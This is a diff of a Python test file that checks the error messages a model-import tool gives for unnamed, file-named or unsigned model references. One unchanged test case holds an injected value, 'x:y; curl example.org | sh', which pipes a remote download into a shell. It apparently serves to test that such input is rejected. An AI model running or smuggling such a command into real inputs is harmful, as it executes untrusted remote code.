@@ -34,7 +34,7 @@ def test_model_is_the_callers_or_a_registered_name_without_a_demanded_signature(
     ("recorded", "demanded_by", "said"),
     [
         (None, None, "exported from an object, not from a MODEL that can be imported; name it with --model MODEL"),
-        ("net.py:Net", None, "what a file names is not imported; name it with --model net.py:Net"),
+        ("net.py:Net", None, "a model is imported only if its caller names it; name it with --model net.py:Net"),
         ("net.py:Net", POLICY, f"{POLICY} requires a signature, which does not cover"),
         ("x:y; curl example.org | sh", None, "name it with --model MODEL"),
     ],
